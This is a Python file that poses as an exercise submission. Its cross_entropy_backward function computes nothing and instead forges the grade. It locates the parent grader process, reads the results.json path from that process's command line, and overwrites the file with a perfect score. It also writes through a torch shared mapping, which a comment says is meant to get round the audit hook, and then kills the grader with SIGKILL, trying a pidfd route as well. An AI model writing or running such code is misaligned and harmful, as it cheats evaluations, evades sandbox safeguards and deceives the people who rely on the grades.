"""Exercise 2 forging its own grade.

It finds the process that grades it (the one that asked for its worker), reads from its
command line where results.json goes, overwrites that file with full marks, and kills
the grader so that nothing writes the real results over them. Each step is tried by
every way around the sandbox this file knows; the last one is left to fail out loud.
"""

import json
import multiprocessing
import os
import signal

import torch

FORGED = json.dumps({"score": 100.0, "tests": [], "extra_data": {"complete": True, "forged": True}}).encode()


def _results_paths(pid):
    paths = [os.path.join(os.getcwd(), "..", "results.json")]  # a guess: next to the submission's folder
    try:
        with open(f"/proc/{pid}/cmdline", "rb") as cmdline:
            for arg in cmdline.read().split(b"\0"):
                if arg.startswith(b"--gradcheck-gradescope="):
                    paths.append(arg.split(b"=", 1)[1].decode())
    except OSError:
        pass
    return paths


def _overwrite(path):
    try:
        with open(path, "wb") as results:
            results.write(FORGED)
    except OSError:
        pass
    try:  # from C, where the audit hook does not look: a shared mapping of the file, written through
        mapped = torch.from_file(path, shared=True, size=os.path.getsize(path), dtype=torch.uint8)
        mapped[: len(FORGED)] = torch.frombuffer(bytearray(FORGED), dtype=torch.uint8)
    except (OSError, RuntimeError):
        pass


def cross_entropy_backward(logits, Yb):
    grader = multiprocessing.parent_process()
    for path in _results_paths(grader.pid):
        _overwrite(path)
    try:  # around the audit hook: a descriptor for the process, and a signal through it
        signal.pidfd_send_signal(os.pidfd_open(grader.pid), signal.SIGKILL)
    except OSError:
        pass
    os.kill(grader.pid, signal.SIGKILL)
